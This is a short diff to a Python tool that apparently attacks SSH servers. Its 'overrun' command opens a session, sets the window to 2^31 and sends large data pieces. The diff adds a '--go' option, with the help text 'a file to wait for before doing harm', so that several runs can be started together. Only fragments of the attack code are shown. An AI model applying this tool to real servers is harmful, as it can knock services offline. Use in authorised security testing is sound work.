@@ -270,6 +270,8 @@ def cmd_overrun(a):
     t = login(a)
     c = t.open_session()
     c.exec_command(a.command)
+    while a.go and not os.path.exists(a.go):
+        time.sleep(0.01)
     c.out_window_size = 1 << 31
     sent = 0
     piece = bytes(32768)
@@ -401,6 +403,7 @@ def main():
     p.add_argument("--method", default="publickey")
     p.add_argument("--count", type=int, default=1)
     p.add_argument("--bytes", type=int, default=0)
+    p.add_argument("--go", help="a file to wait for before doing harm")
     p.add_argument("--room", type=int, default=0, help="SO_RCVBUF")
     p.add_argument("--seconds", type=float, default=WAIT)
     a = p.parse_args()
